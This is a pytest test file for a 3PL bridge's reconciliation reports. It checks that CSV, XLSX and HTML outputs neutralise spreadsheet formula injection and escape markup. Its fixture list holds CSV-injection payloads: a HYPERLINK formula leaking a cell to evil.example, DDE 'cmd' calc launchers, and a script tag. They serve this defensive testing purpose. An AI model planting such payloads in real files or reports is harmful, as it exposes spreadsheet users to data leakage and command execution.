"""Text from a 3PL file never acts in a finance report (issue 13 defect 9, issue 17): not as a spreadsheet formula
in the CSV or the XLSX, not as markup in the HTML.

A spreadsheet runs a cell that starts with = + - @ (or a tab / CR / LF before one) as a formula (OWASP "CSV
injection"): the reports prefix such a text cell with ``'``; numbers the reports write themselves ("-200.00") stay
numbers (typed cells in the XLSX). The HTML escapes every field (Jinja2's autoescaping). The files are read back
as a spreadsheet would split them: the csv module, openpyxl, and the HTML's parsed text.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from threepl_bridge.ledger.repo import Ledger
from threepl_bridge.reports import write_reconciliation_report
from threepl_bridge.reports.output import Column, Table, to_csv, to_xlsx

POISON = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "<script>alert('x')</script>",
]
FORMULA_START = tuple("=+-@\t\r\n")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def xlsx_cells(path) -> list:
    book = load_workbook(path)
    return [(sheet.title, cell) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):  # noqa: ANN001
        self.tags.append(tag)


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), f"formula cell {cell!r} in {row}"


def assert_safe_outputs(html_path, csv_path, xlsx_path, poison=POISON, *, formula: str = POISON[0], markup: str = POISON[-1]) -> None:
    table = csv_cells(csv_path)
    assert_no_formula(table)
    flat = {c for row in table for c in row}
    for text in poison:  # still there, readable, as text
        assert text in flat or "'" + text in flat, text
    for sheet, cell in xlsx_cells(xlsx_path):
        assert cell.data_type != "f", f"{sheet}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_START), f"{sheet}!{cell.coordinate}: {cell.value!r}"
    texts = {cell.value for _, cell in xlsx_cells(xlsx_path) if isinstance(cell.value, str)}
    assert "'" + formula in texts and markup in texts
    html = html_path.read_text()
    parser = Elements()
    parser.feed(html)
    assert "script" not in parser.tags  # the <script> from the file is text, not an element
    assert "&lt;script&gt;" in html and "=HYPERLINK(&#34;" in html


@pytest.fixture
def ledger(tmp_path) -> Ledger:
    return Ledger.open(f"sqlite:///{tmp_path / 'ledger.db'}")


def test_reconciliation_report_neutralises_formulas_and_markup_in_html_csv_and_xlsx(ledger, tmp_path):
    reg = ledger.register_inbound(partner="demo3pl", kind="stock", folder="/in", name="STOCK_1.csv", sha256="a" * 64, size=10)
    ledger.record_rows(reg.exchange_id, [
        {"row_number": 2 + i, "outcome": "exception", "code": "STOCK_UNKNOWN_SKU", "field": "sku", "message": text}
        for i, text in enumerate(POISON)
    ])
    lines = [
        {"sku": text, "lot": POISON[(i + 1) % len(POISON)], "threepl_qty": Decimal(100), "odoo_qty": Decimal(300),
         "variance_qty": Decimal(-200), "unit_cost": Decimal(1), "variance_value": Decimal("-200.00"), "classification": "variance",
         "explanation": POISON[(i + 2) % len(POISON)], "approval": "pending"}
        for i, text in enumerate(POISON)
    ]
    recon = ledger.store_reconciliation(
        partner="demo3pl", exchange_id=reg.exchange_id, as_of=datetime(2026, 11, 20, 10, tzinfo=timezone.utc), currency="EUR",
        lines=lines, variance_value=Decimal(-1600), unknown_rows={}, data_quality=[])
    html_path, csv_path, xlsx_path = write_reconciliation_report(ledger, recon, tmp_path / "reports")
    assert_safe_outputs(html_path, csv_path, xlsx_path)
    table = csv_cells(csv_path)
    rows = [row for row in table if row[0] == "lines"]
    assert len(rows) == len(POISON) and {len(row) for row in table} == {len(table[0])}  # a CR inside a value splits no row
    assert {row[4] for row in rows} == {"100"} and {row[8] for row in rows} == {"-200"} and {row[9] for row in rows} == {"-200.00"}
    book = load_workbook(xlsx_path)
    lines_sheet = book["lines"]
    assert lines_sheet.freeze_panes == "A2" and lines_sheet["I2"].value == -200.0 and lines_sheet["I2"].data_type == "n"
    assert "-1,600.00 EUR" in html_path.read_text()


@pytest.mark.parametrize("text", ["-200.00", "-5", "0", "12.5", "A-1", "SKU=1", "O'Brien", ""])
def test_plain_text_and_numbers_are_written_unchanged(text):
    table = Table("t", "t", [Column("text")], [[text]])
    assert csv_cells_of(to_csv([table]))[2] == ["t", text]
    sheet = load_workbook(io.BytesIO(to_xlsx([table], "t")))["t"]
    assert (sheet["A2"].value or "") == text and sheet["A2"].data_type != "f"


def csv_cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_same_tables_give_the_same_bytes():
    table = Table("t", "t", [Column("sku"), Column("qty", "qty", "units"), Column("value", "money", "USD")], [["A", Decimal("1.5"), Decimal("-2")]])
    assert to_xlsx([table], "t") == to_xlsx([table], "t") and to_csv([table]) == to_csv([table])


def test_an_xlsx_carries_no_clock_time_so_two_writes_are_the_same_bytes():
    """openpyxl stamps the document's modification time with the clock at save; a report written again a second
    later must still be the same bytes (the month-end backfills compare them)."""
    import io
    import zipfile

    from threepl_bridge.reports.output import Column, Table, to_xlsx

    data = to_xlsx([Table("t", "T", [Column("x")], [("1",)])], "t")
    core = zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml").decode()
    assert '<dcterms:modified xsi:type="dcterms:W3CDTF">2000-01-01T00:00:00Z</dcterms:modified>' in core
    assert {i.date_time for i in zipfile.ZipFile(io.BytesIO(data)).infolist()} == {(2000, 1, 1, 0, 0, 0)}
